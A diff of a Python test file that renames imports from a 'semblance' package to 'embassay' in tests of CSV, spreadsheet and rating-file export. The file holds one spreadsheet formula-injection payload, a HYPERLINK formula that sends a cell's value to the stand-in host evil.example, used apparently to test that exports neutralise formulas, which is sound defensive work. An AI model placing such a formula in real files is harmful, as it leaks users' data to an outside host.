@@ -11,12 +11,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from embassay.interchange import export
+from embassay.protocols.pteb.validation.rating_file import read_ratings, write_ratings
+from embassay.protocols.rag.golden.check_file import FinalList, Listed, write_check
+from embassay.protocols.spreadsheets import inert, meant
+from embassay.protocols.tables import csv_text
 from hume_small import small_study
-from semblance.interchange import export
-from semblance.protocols.pteb.validation.rating_file import read_ratings, write_ratings
-from semblance.protocols.rag.golden.check_file import FinalList, Listed, write_check
-from semblance.protocols.spreadsheets import inert, meant
-from semblance.protocols.tables import csv_text
 from written_runs import write_run
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
@@ -66,7 +66,7 @@ def test_rankings_of_a_stranger(tmp_path: Path) -> None:
     """`rag score` writes a line per query, and queries may be called anything."""
     from typer.testing import CliRunner
 
-    from semblance.cli.main import app
+    from embassay.cli.main import app
 
     qrels, run = tmp_path / "qrels.jsonl", tmp_path / "run.jsonl"
     qrels.write_text(json.dumps({"query_id": FORMULA, "doc_id": "d", "grade": 5}) + "\n")
@@ -97,9 +97,9 @@ def test_sheets_that_are_sent_to_people(tmp_path: Path) -> None:
 
 def test_comments_of_annotators(tmp_path: Path) -> None:
     """The owner of a study opens what strangers wrote; imported again, it says what they wrote."""
-    from semblance.protocols.hume.exchange.tables import read_csv
-    from semblance.protocols.hume.folder import AnnotationRow
-    from semblance.web.annotation.export import as_csv
+    from embassay.protocols.hume.exchange.tables import read_csv
+    from embassay.protocols.hume.folder import AnnotationRow
+    from embassay.web.annotation.export import as_csv
 
     study = small_study(tmp_path / "study", 2)
     rows = [
